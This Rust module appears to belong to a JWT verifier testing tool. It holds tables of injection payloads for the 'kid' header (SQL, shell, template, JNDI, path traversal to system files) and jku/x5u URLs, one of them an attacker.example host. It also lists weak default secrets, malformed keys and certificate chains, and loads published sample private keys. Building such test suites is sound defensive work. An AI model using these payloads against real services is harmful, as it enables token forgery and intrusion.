//! Keys: key ids with what a failing lookup may return, and secrets that people choose.

use std::sync::OnceLock;

use crate::{
    algorithm::Algorithm,
    keys::{Derivation, Key, private_keys},
};

/// `kid` values as raw JSON, with the keys that a look-up which goes astray may yield.
pub const KEY_IDS: &[(&str, &[&str])] = &[
    (r#""no-such-key""#, &["", "undefined", "null", "None", "nil", "false", "0", "[object Object]", "NaN", "\n", "\0"]),
    (r#""""#, &["", "undefined", "null"]),
    ("null", &["", "null", "undefined", "None"]),
    ("0", &["", "0"]),
    ("true", &["", "true", "1"]),
    ("[]", &["", "[]"]),
    ("{}", &["", "{}", "[object Object]"]),
    (r#"["key-1"]"#, &["", "key-1"]),
    (r#"{"$ne":null}"#, &["", "null"]),
    (r#"{"$gt":""}"#, &[""]),
    (r#""*""#, &["", "*"]),
    (r#""*)(uid=*""#, &["", "null"]),
    (r#""' or '1'='1""#, &["", "1"]),
    (r#""' || '1'=='1""#, &[""]),
    (r#""__proto__""#, &["[object Object]", "{}", ""]),
    (r#""constructor""#, &["function Object() { [native code] }", "Object", ""]),
    (r#""toString""#, &["function toString() { [native code] }", "toString", ""]),
    (r#""hasOwnProperty""#, &["function hasOwnProperty() { [native code] }", ""]),
    (r#""valueOf""#, &["function valueOf() { [native code] }", ""]),
    (r#""length""#, &["0", "1", "2"]),
    (r#""__class__""#, &["", "None"]),
    (r#""/dev/null""#, &[""]),
    (r#""../../../../../../../../../../../../dev/null""#, &[""]),
    (r#""....//....//....//....//....//....//....//....//dev/null""#, &[""]),
    (r#""..././..././..././..././..././..././..././..././dev/null""#, &[""]),
    (r#""..\\..\\..\\..\\NUL""#, &[""]),
    (r#""file:///dev/null""#, &[""]),
    (r#""..%2f..%2f..%2f..%2fdev%2fnull""#, &[""]),
    (r#""/proc/sys/kernel/randomize_va_space""#, &["2\n", "2", "1\n", "0\n"]),
    (r#""../../../../../../proc/sys/kernel/ostype""#, &["Linux\n", "Linux"]),
    (r#""/proc/sys/net/ipv4/ip_forward""#, &["0\n", "1\n"]),
    (r#""../public/robots.txt""#, &["User-agent: *\nDisallow:\n", "User-agent: *\nDisallow: /\n"]),
    (r#""key-1/../../../../dev/null""#, &[""]),
    (r#""/dev/null\u0000key-1""#, &[""]),
    (r#""key-1\u0000""#, &[""]),
    (r#""x' UNION SELECT 'gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet""#, &["gauntlet"]),
    (r#""x\" UNION SELECT \"gauntlet\"-- -""#, &["gauntlet"]),
    (r#""-1 UNION SELECT 1-- -""#, &["1"]),
    (r#""x'; SELECT 'gauntlet'; --""#, &["gauntlet"]),
    (r#""x' UNION SELECT NULL-- -""#, &["", "null"]),
    (r#""x' AND '1'='2""#, &[""]),
    (r#""|echo gauntlet""#, &["gauntlet\n", "gauntlet"]),
    (r#""; echo gauntlet""#, &["gauntlet\n", "gauntlet"]),
    (r#""$(echo gauntlet)""#, &["gauntlet", "gauntlet\n"]),
    (r#""`echo gauntlet`""#, &["gauntlet", "gauntlet\n"]),
    (r#""{{7*7}}""#, &["49"]),
    (r#""${7*7}""#, &["49"]),
    (r#""<%= 7*7 %>""#, &["49"]),
    (r#""gauntlet""#, &["gauntlet"]),
    (r#""key-2""#, &["", "key-2"]),
    (r#""KEY-1""#, &[""]),
    (r#""default""#, &["", "default"]),
    (r#""https://attacker.example/jwks.json""#, &[""]),
    (r#""data:,""#, &[""]),
    (r#""%""#, &["", "secret", "changeme", "test"]),
    (r#""_%""#, &["", "secret", "changeme", "test"]),
    (r#""x' OR 1=1-- -""#, &["", "secret", "changeme"]),
    (r#""x' UNION SELECT 'HS256','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet','HS256'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet','gauntlet','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'x','HS256','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 1,'gauntlet'-- -""#, &["gauntlet"]),
    (r#""__doc__""#, &["None", ""]),
    (r#""__module__""#, &["__main__", "builtins"]),
    (r#""__name__""#, &["Settings", "Config", "Keys", "__main__"]),
    (r#""__dict__""#, &["{}"]),
    (r#""__hash__""#, &["None"]),
    (r#""prototype""#, &["[object Object]", ""]),
    (r#""name""#, &["", "Object", "Function"]),
    (r#""size""#, &["0", "1", "2"]),
    (r#""${jndi:ldap://127.0.0.1/x}""#, &[""]),
    (r#""key-1:gauntlet""#, &["gauntlet", "key-1", ""]),
    (r#""../../../../../../etc/hostname""#, &[""]),
    (r#""aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!""#, &[""]),
    (r#""a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-""#, &[""]),
    (r#""00000000000000000000000000000000000000000000x""#, &[""]),
];

/// `jku` and `x5u` values as raw JSON that need no host, with what they give to a verifier that fetches them and uses it as a
/// secret.
pub const URL_SECRETS: &[(&str, &str)] = &[
    (r#""file:///dev/null""#, ""),
    (r#""/dev/null""#, ""),
    (r#""data:,""#, ""),
    (r#""data:,gauntlet""#, "gauntlet"),
    (r#""data:text/plain;base64,Z2F1bnRsZXQ=""#, "gauntlet"),
    (r#""file:///proc/sys/kernel/randomize_va_space""#, "2\n"),
    (r#""https://attacker.example/""#, ""),
];

/// Texts that lax code has used as a secret: defaults, placeholders, what "nothing" turns into, places where a key lies.
pub const SECRETS: &[&str] = &[
    "",
    "undefined",
    "null",
    "None",
    "nil",
    "NaN",
    "true",
    "false",
    "False",
    "0",
    "1",
    "[object Object]",
    "{}",
    "[]",
    "\n",
    "\0",
    " ",
    "secret",
    "password",
    "changeme",
    "change-me",
    "key",
    "jwt",
    "test",
    "admin",
    "your-256-bit-secret",
    "your_jwt_secret",
    "JWT_SECRET",
    "${JWT_SECRET}",
    "process.env.JWT_SECRET",
    "client_secret",
    "clientSecret",
    "supersecret",
    "default",
    "123456",
    "qwerty",
    "public",
    "public.pem",
    "./public.pem",
    "file://public.pem",
    "keys/public.pem",
    "/keys/public.pem",
    "/etc/keys/public.pem",
    "https://issuer.example/.well-known/jwks.json",
    "-----BEGIN PUBLIC KEY-----",
    "RS256",
    "HS256",
    "none",
    "key not found",
    "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
];

/// Secrets that people choose.
pub const PASSWORDS: &[&str] = &[
    "secret",
    "password",
    "changeme",
    "",
    "key",
    "test",
    "jwt",
    "admin",
    "123456",
    "default",
    "supersecret",
    "your-256-bit-secret",
];

/// What is done to passwords in place of a key derivation.
pub const STRETCHED: &[Derivation] = &[
    Derivation::Sha256,
    Derivation::Sha256Hex,
    Derivation::Sha256Base64,
    Derivation::Md5Hex,
    Derivation::Sha1Hex,
    Derivation::Base64,
    Derivation::Sha512,
];

/// `jwk` values that are not keys, or none that anybody should compute with.
pub const ODD_KEYS: &[&str] = &[
    "{}",
    "null",
    "[]",
    r#""""#,
    r#"{"kty":"RSA"}"#,
    r#"{"kty":"RSA","n":"AA","e":"AA"}"#,
    r#"{"kty":"RSA","n":"","e":""}"#,
    r#"{"kty":"RSA","n":1,"e":1}"#,
    r#"{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}"#,
    r#"{"kty":"EC","crv":"P-256","x":"","y":""}"#,
    r#"{"kty":"EC","crv":"unknown","x":"AA","y":"AA"}"#,
    r#"{"kty":"OKP","crv":"Ed25519","x":""}"#,
    r#"{"kty":"OKP","crv":"X25519","x":"CQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}"#,
    r#"{"kty":"oct","k":""}"#,
    r#"{"kty":"oct","k":null}"#,
    r#"{"kty":["RSA"]}"#,
];

/// `x5c` values that are not certificates; some are the beginning of one, or promise more than there is.
pub const ODD_CHAINS: &[&str] = &[
    "[]",
    "null",
    "{}",
    r#""""#,
    r#"[""]"#,
    "[null]",
    "[[]]",
    "[1]",
    r#"["!"]"#,
    r#"["AAAA"]"#,
    r#"["MAA="]"#,
    r#"["MAUA"]"#,
    r#"["MIIB"]"#,
    r#"["MIT/////"]"#,
    r#"["MIAAAA=="]"#,
    r#"["MIIBIjANBgkqhkiG9w0B"]"#,
    r#"["MIIB","MIIB"]"#,
];

/// A private key in PEM, and the algorithms that it signs with.
pub type SigningKey = (String, Vec<Algorithm>);

/// Keys in PEM with what they sign; texts that are none are left out.
#[must_use]
pub fn signing_keys(pems: &[String]) -> Vec<SigningKey> {
    let uses = |key: &Key| Algorithm::ALL.into_iter().filter(|algorithm| key.public().fits(*algorithm)).collect();
    pems.iter().filter_map(|pem| Some((pem.clone(), uses(&Key::from_private_pem(pem)?)))).collect()
}

/// Private keys that are published as examples, and configured by those who copy them (RFC 7515, RFC 8037, jwt.io).
#[must_use]
pub fn sample_keys() -> &'static [SigningKey] {
    static KEYS: OnceLock<Vec<SigningKey>> = OnceLock::new();
    KEYS.get_or_init(|| signing_keys(&private_keys(include_str!("sample-keys.txt"))))
}
